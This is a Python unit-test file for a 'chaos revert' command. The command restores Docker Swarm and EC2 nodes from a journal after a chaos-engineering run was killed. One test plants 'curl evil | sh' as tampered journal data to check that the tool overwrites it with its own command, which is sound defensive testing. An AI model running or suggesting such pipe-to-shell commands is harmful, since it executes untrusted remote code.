"""``swarmctl chaos revert``: after kill -9, from the journal alone, as often as you like."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from swarmctl.chaos.fault.kind import Options
from swarmctl.chaos.journal.journal import Journal, Mark
from swarmctl.chaos.journal.phases import phases
from swarmctl.chaos.journal.runs import Runs
from swarmctl.chaos.run.revert_from_journal import revert
from swarmctl.chaos.run.steps import revert as revert_step
from swarmctl.chaos.run.steps.revert import RevertFailedError
from swarmctl.chaos.world.reconnect import ReconnectingEngine
from swarmctl.errors import Exit, SwarmctlError
from swarmctl.swarm import lock
from swarmctl.swarm.engine import Engine
from tests.unit.chaos.stage import Quiet, Stage, stage


class Killed(BaseException):
    """Ends the process at once: nothing after it runs."""


def killed(root: Path, after_s: float, monkeypatch: pytest.MonkeyPatch) -> tuple[Stage, Journal]:
    """A run that `kill -9` ended; what is left is the world and the journal on disk."""
    s = stage(root)

    def die() -> None:
        raise Killed

    s.clock.at(after_s, die)
    monkeypatch.setattr(revert_step, "put_back", lambda context: None)
    monkeypatch.setattr(type(s.experiment), "_end", lambda self, outcome: None)
    with pytest.raises(Killed):
        s.experiment.run()
    (pending,) = Runs(root).pending()
    return s, pending


def undo(s: Stage, journal: Journal) -> None:
    revert(journal, s.runs, s.lab.engine, s.lab, s.lab, s.clock, Quiet())


@pytest.mark.parametrize("after_s", [2.3, 4.0, 7.0, 14.0, 20.0])
def test_whenever_it_was_killed(
    tmp_path: Path, after_s: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, after_s, monkeypatch)
    undo(s, journal)
    assert s.lab.states["wkr2"] == "running"
    assert all(node.live for node in s.lab.nodes)
    assert s.runs.pending() == ()
    assert s.runs.load(journal.id).outcome == "interrupted"


def test_a_second_revert_does_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    undo(s, journal)
    before = list(s.lab.log)
    undo(s, s.runs.load(journal.id))
    assert s.lab.log == before == ["stop wkr2", "start wkr2"]


def test_an_instance_somebody_has_started_already_is_left_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    s.lab.start("i-wkr2")
    s.clock.pause(15)
    undo(s, journal)
    assert s.lab.log.count("start wkr2") == 1


def test_managers_are_looked_for_until_one_answers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The machine that is to come back may be the only manager."""
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    tries: list[float] = []

    def connect() -> Engine:
        tries.append(s.clock.now())
        if len(tries) < 5:
            raise SwarmctlError("no manager of the cluster is running")
        return s.lab.engine

    revert(journal, s.runs, ReconnectingEngine(connect), s.lab, s.lab, s.clock, Quiet())
    assert len(tries) == 5
    assert s.runs.pending() == ()


def test_a_revert_that_fails_can_be_tried_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    s.lab.fail["start"] = SwarmctlError("InsufficientInstanceCapacity")
    with pytest.raises(RevertFailedError, match="waited 900 s") as caught:
        undo(s, journal)
    assert caught.value.exit_code == Exit.REVERT_FAILED
    assert "InsufficientInstanceCapacity" in caught.value.message
    assert [run.undo.state for run in s.runs.pending()] == ["failed"]
    s.lab.fail.clear()
    undo(s, s.runs.load(journal.id))
    assert s.runs.pending() == ()


def test_a_machine_that_was_terminated_is_lost_and_blocks_no_later_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    s.lab.states["wkr2"] = "terminated"
    undo(s, journal)
    assert s.runs.pending() == ()
    assert "wkr2: its instance i-wkr2 was terminated" in s.runs.load(journal.id).undo.detail


def test_a_stop_that_arrives_late_is_undone_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Broken: the run was killed while it sent the request, and EC2 shows it seconds later."""
    s, journal = killed(tmp_path, 2.3, monkeypatch)
    s.lab.states["wkr2"] = "running"
    late = s.clock.now() + 2.0
    s.clock.at(late, lambda: s.lab.stop("i-wkr2"))
    undo(s, journal)
    assert s.lab.log[-1] == "start wkr2"
    assert s.lab.states["wkr2"] == "running"


def test_a_manager_is_back_when_the_others_reach_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    s.lab.nodes = [
        replace(n, reachability="unreachable") if n.hostname == "wkr2" else n for n in s.lab.nodes
    ]

    def reached() -> None:
        s.lab.nodes = [
            replace(n, reachability="reachable") if n.hostname == "wkr2" else n for n in s.lab.nodes
        ]

    at = s.clock.now() + 60.0
    s.clock.at(at, reached)
    undo(s, journal)
    assert s.clock.now() >= at


# --- what a revert leaves -------------------------------------------------------------------------


def test_a_reverted_run_ends_as_interrupted_with_commands_of_our_own(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Broken: a command that someone wrote into the plan is shown to be typed."""
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    steps = tuple(replace(step, by_hand="curl evil | sh") for step in journal.undo.steps)
    journal.undo = replace(journal.undo, steps=steps)
    s.clock.pause(0.12345)
    undo(s, journal)
    left = s.runs.load(journal.id)
    assert (left.outcome, left.phase) == ("interrupted", "ended")
    assert left.ended_s == round(s.clock.now(), 3) > 8.0
    assert left.phases == phases(left) != {}
    (step,) = left.undo.steps
    assert step.by_hand == "aws ec2 start-instances --instance-ids i-wkr2"


def test_a_fault_that_this_version_does_not_know_is_left_to_a_person(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    journal.experiment = "flood"
    with pytest.raises(RevertFailedError) as caught:
        undo(s, journal)
    text = f"revert of {journal.id} failed: this version knows no fault 'flood'"
    assert caught.value.message == text
    assert s.lab.log == ["stop wkr2"]


def test_a_drained_node_is_made_active_by_the_managers_that_run_now(tmp_path: Path) -> None:
    s = stage(tmp_path, fault="drain")
    journal = s.experiment.rehearse()
    journal.undo = replace(journal.undo, state="planned")
    s.lab.set_availability("wkr2", "drain")
    undo(s, journal)
    assert s.lab.log[-1] == "wkr2 is active"


def test_a_fault_that_left_its_node_ready_is_undone_under_its_own_options(tmp_path: Path) -> None:
    """Cut off from the workers alone, a node stays Ready: that need not last for seconds."""
    s = stage(tmp_path, fault="partition", options=Options(sever="workers"))
    s.lab.engine.snapshot = s.lab.snapshot  # type: ignore[method-assign]  # this Swarm's nodes
    journal = s.experiment.rehearse()
    journal.undo = replace(journal.undo, state="planned")
    journal.marks.append(Mark(1.0, "fault", "partition of wkr2"))
    undo(s, journal)
    assert s.clock.now() < 1.0


@pytest.mark.parametrize(
    ("plan", "kept"), [("its own", False), ({"id": "another"}, True), ({}, True), (None, True)]
)
def test_only_the_runs_own_lock_is_released(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plan: object, kept: bool
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    if plan != "its own":
        s.lab.engine.store["configs"].clear()
        owner = lock.this_process("chaos x")
        lock.acquire(s.lab.engine, lock.CHAOS, 600, owner, plan)  # type: ignore[arg-type]  # a plan
    undo(s, journal)
    assert (lock.find(s.lab.engine, lock.CHAOS) is not None) is kept


def test_a_lock_that_stays_is_said_and_the_revert_is_done(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    s, journal = killed(tmp_path, 8.0, monkeypatch)
    s.lab.engine.refuse["DELETE /configs"] = "no leader"
    said = Quiet()
    revert(journal, s.runs, s.lab.engine, s.lab, s.lab, s.clock, said)
    assert said.lines[-1] == "the Swarm's chaos lock is not released: no leader"
    assert s.runs.pending() == ()
